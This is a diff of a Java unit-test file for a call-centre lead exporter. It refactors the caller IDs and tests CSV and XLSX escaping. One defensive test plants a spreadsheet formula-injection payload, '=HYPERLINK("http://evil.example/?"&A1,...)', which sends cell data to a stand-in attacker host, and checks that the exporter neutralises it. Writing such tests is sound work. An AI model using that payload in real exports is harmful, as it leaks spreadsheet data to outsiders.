@@ -7,7 +7,6 @@ import app.obzvon.persistence.JooqLeadRepository;
 import app.obzvon.queue.CallQueue;
 import app.obzvon.queue.NewQueue;
 import app.obzvon.queue.QueueFilter;
-import app.obzvon.team.Caller;
 import app.obzvon.testing.TestBase;
 import de.siegmar.fastcsv.reader.CsvReader;
 import org.dhatim.fastexcel.reader.CellType;
@@ -70,9 +69,9 @@ class LeadExporterTest {
     void open() throws IOException {
         base = new TestBase(folder);
         dsl = base.services.database().dsl();
-        exporter = new LeadExporter(base.services.database(), new JooqLeadRepository(dsl), base.clock);
+        exporter = base.services.leadExporter();
         queue = base.queue(QueueFilter.any());
-        base.services.callers().rename(Caller.DEFAULT_ID, "Анна");
+
         out = Files.createDirectory(folder.resolve("out"));
     }
 
@@ -98,7 +97,7 @@ class LeadExporterTest {
         assertEquals(out.resolve("leads.csv"), result.file());
         var batch = result.batch();
         assertEquals(base.clock.instant(), batch.at());
-        assertEquals(Caller.DEFAULT_ID, batch.callerId());
+        assertEquals(base.supervisor.id(), batch.callerId());
         assertEquals("Анна", batch.callerName());
         assertEquals("outcomes=lead; period=*..* Europe/Moscow; queue=*; caller=*; only-new=true", batch.criteria());
         assertEquals(List.of(batch), exporter.batches());
@@ -226,11 +225,11 @@ class LeadExporterTest {
         long boris = dsl.insertInto(CALLERS).set(CALLERS.NAME, "Борис").set(CALLERS.CREATED_AT, 0L)
                 .returningResult(CALLERS.ID).fetchSingle().value1();
         base.addCompanies("A-queue-anna", "B-other-anna", "C-queue-boris", "D-no-queue", "E-callback");
-        log(1, queue, Caller.DEFAULT_ID, "qualified_lead", CallDetails.none());
-        log(2, other, Caller.DEFAULT_ID, "meeting_booked", new CallDetails(null, hoursLater(3), null));
+        log(1, queue, base.supervisor.id(), "qualified_lead", CallDetails.none());
+        log(2, other, base.supervisor.id(), "meeting_booked", new CallDetails(null, hoursLater(3), null));
         log(3, queue, boris, "qualified_lead", CallDetails.none());
-        log(4, null, Caller.DEFAULT_ID, "qualified_lead", CallDetails.none());
-        log(5, queue, Caller.DEFAULT_ID, "call_back", new CallDetails(null, hoursLater(3), null));
+        log(4, null, base.supervisor.id(), "qualified_lead", CallDetails.none());
+        log(5, queue, base.supervisor.id(), "call_back", new CallDetails(null, hoursLater(3), null));
 
         var all = LeadCriteria.newLeads();
         assertEquals(List.of("A-queue-anna", "B-other-anna", "C-queue-boris", "D-no-queue"),
@@ -239,7 +238,7 @@ class LeadExporterTest {
         assertEquals(List.of("B-other-anna"), companies(exporter.preview(all.withQueue(other.id()))));
         assertEquals(List.of("C-queue-boris"), companies(exporter.preview(all.withCaller(boris))));
         assertEquals(List.of("A-queue-anna"),
-                companies(exporter.preview(all.withQueue(queue.id()).withCaller(Caller.DEFAULT_ID))));
+                companies(exporter.preview(all.withQueue(queue.id()).withCaller(base.supervisor.id()))));
         assertEquals(List.of("B-other-anna"),
                 companies(exporter.preview(all.withOutcomes(Set.of(outcomeId("meeting_booked"))))));
         // A chosen outcome counts even when it is not a lead outcome.
@@ -278,7 +277,7 @@ class LeadExporterTest {
         log(1, queue, "qualified_lead", CallDetails.none().withNote("перезвонить\nпосле обеда; \"срочно\""));
 
         var result = exporter.export(LeadCriteria.newLeads(), ExportFormat.CSV, CsvOptions.EXCEL, RUSSIAN,
-                out.resolve("лиды.csv"), Caller.DEFAULT_ID);
+                out.resolve("лиды.csv"));
         var bytes = Files.readAllBytes(result.file());
         assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(bytes, 3));
         var text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
@@ -312,7 +311,7 @@ class LeadExporterTest {
         assertNull(lead.person());
 
         var xlsx = exporter.export(LeadCriteria.newLeads(), ExportFormat.XLSX, null, ENGLISH,
-                out.resolve("leads.xlsx"), Caller.DEFAULT_ID);
+                out.resolve("leads.xlsx"));
         assertEquals("+74951234567 ext. 123, 8 (812) 000-11-22, +79030000001", xlsx(xlsx.file()).get(1).get(2),
                 "XLSX: a string cell is never a formula, so the number stays as it is");
         exporter.exportAgain(xlsx.batch().id(), ExportFormat.CSV, null, ENGLISH, out.resolve("leads.csv"));
@@ -327,7 +326,7 @@ class LeadExporterTest {
                 List.of("=1+1"), "\tTab", null, TestBase.ZONE, CompanySize.SMALL, null, null)));
         dsl.update(OUTCOME_DEFINITIONS).set(OUTCOME_DEFINITIONS.LABEL, "+Горячий лид")
                 .where(OUTCOME_DEFINITIONS.CODE.eq("qualified_lead")).execute();
-        base.services.callers().rename(Caller.DEFAULT_ID, "\rCR");
+        base.services.people().rename(base.supervisor.id(), "-Анна");
         var note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
         log(1, queue, "qualified_lead", CallDetails.none().withNote(note));
 
@@ -338,7 +337,7 @@ class LeadExporterTest {
         assertEquals("'=1+1", row.get(2));
         assertEquals("'\tTab", row.get(3));
         assertEquals("'+Горячий лид", row.get(4), "the supervisor's own label comes before the translated one");
-        assertEquals("'\rCR", row.get(5));
+        assertEquals("'-Анна", row.get(5));
         assertEquals("'" + note, row.get(7));
 
         exporter.exportAgain(result.batch().id(), ExportFormat.XLSX, null, ENGLISH, out.resolve("leads.xlsx"));
@@ -364,7 +363,7 @@ class LeadExporterTest {
         log(2, queue, "qualified_lead", CallDetails.none().withNote("ж".repeat(40_000)));
 
         var result = exporter.export(LeadCriteria.newLeads(), ExportFormat.XLSX, null, RUSSIAN,
-                out.resolve("leads.xlsx"), Caller.DEFAULT_ID);
+                out.resolve("leads.xlsx"));
         try (var in = Files.newInputStream(result.file()); var workbook = new ReadableWorkbook(in)) {
             var sheet = workbook.getFirstSheet();
             assertEquals("Лиды", sheet.getName());
@@ -400,7 +399,7 @@ class LeadExporterTest {
         var missing = folder.resolve("no such folder").resolve("leads.xlsx");
 
         assertThrows(UncheckedIOException.class, () -> exporter.export(LeadCriteria.newLeads(), ExportFormat.XLSX,
-                null, ENGLISH, missing, Caller.DEFAULT_ID));
+                null, ENGLISH, missing));
 
         assertFalse(Files.exists(missing.getParent()));
         assertEquals(List.of(), exporter.batches());
@@ -415,9 +414,10 @@ class LeadExporterTest {
         log(2, queue, "qualified_lead");
         var target = Files.writeString(out.resolve("leads.csv"), "yesterday's file");
 
-        // No caller 999: the batch's insert fails once the file is written, inside the transaction.
+        // The batch's insert fails once the file is written, inside the transaction.
+        dsl.execute("CREATE TRIGGER refuse BEFORE INSERT ON handover_leads BEGIN SELECT RAISE(ABORT, 'no'); END");
         assertThrows(RuntimeException.class, () -> exporter.export(LeadCriteria.newLeads(), ExportFormat.CSV,
-                null, ENGLISH, target, 999));
+                null, ENGLISH, target));
 
         assertEquals("yesterday's file", Files.readString(target));
         assertEquals(List.of(target), listOut(), "no temporary file is left");
@@ -425,6 +425,7 @@ class LeadExporterTest {
         assertEquals(0, dsl.fetchCount(HANDOVER_LEADS));
         assertEquals(2, exporter.preview(LeadCriteria.newLeads()).size());
 
+        dsl.execute("DROP TRIGGER refuse");
         var result = export(LeadCriteria.newLeads(), "leads.csv");
         assertEquals(2, result.leadCount());
         assertNotEquals("yesterday's file", Files.readString(target), "replaced on success");
@@ -441,7 +442,7 @@ class LeadExporterTest {
         };
 
         assertThrows(IllegalStateException.class, () -> exporter.export(LeadCriteria.newLeads(), ExportFormat.XLSX,
-                null, LeadTexts.of(Locale.ENGLISH, broken), target, Caller.DEFAULT_ID));
+                null, LeadTexts.of(Locale.ENGLISH, broken), target));
 
         assertEquals("old", Files.readString(target));
         assertEquals(List.of(target), listOut());
@@ -454,8 +455,7 @@ class LeadExporterTest {
         log(1, queue, "call_back", new CallDetails(null, hoursLater(1), null));
         var target = Files.writeString(out.resolve("leads.csv"), "old");
 
-        var result = exporter.export(LeadCriteria.newLeads(), ExportFormat.CSV, null, ENGLISH, target,
-                Caller.DEFAULT_ID);
+        var result = exporter.export(LeadCriteria.newLeads(), ExportFormat.CSV, null, ENGLISH, target);
 
         assertEquals(HandoverResult.nothingToHandOver(), result);
         assertEquals("old", Files.readString(target));
@@ -467,15 +467,14 @@ class LeadExporterTest {
         base.addCompanies("Alpha");
         log(1, queue, "qualified_lead");
         assertThrows(IllegalArgumentException.class, () -> exporter.export(LeadCriteria.newLeads(), ExportFormat.CSV,
-                null, ENGLISH, out, Caller.DEFAULT_ID));
+                null, ENGLISH, out));
         assertEquals(List.of(), exporter.batches());
     }
 
     // ---- helpers -------------------------------------------------------------------------------------
 
     private HandoverResult export(LeadCriteria criteria, String name) {
-        return exporter.export(criteria, ExportFormat.CSV, CsvOptions.EXCEL, ENGLISH, out.resolve(name),
-                Caller.DEFAULT_ID);
+        return exporter.export(criteria, ExportFormat.CSV, CsvOptions.EXCEL, ENGLISH, out.resolve(name));
     }
 
     private void log(long contactId, CallQueue inQueue, String outcome) {
@@ -483,7 +482,7 @@ class LeadExporterTest {
     }
 
     private void log(long contactId, CallQueue inQueue, String outcome, CallDetails details) {
-        log(contactId, inQueue, Caller.DEFAULT_ID, outcome, details);
+        log(contactId, inQueue, base.supervisor.id(), outcome, details);
     }
 
     private void log(long contactId, CallQueue inQueue, long callerId, String outcome, CallDetails details) {
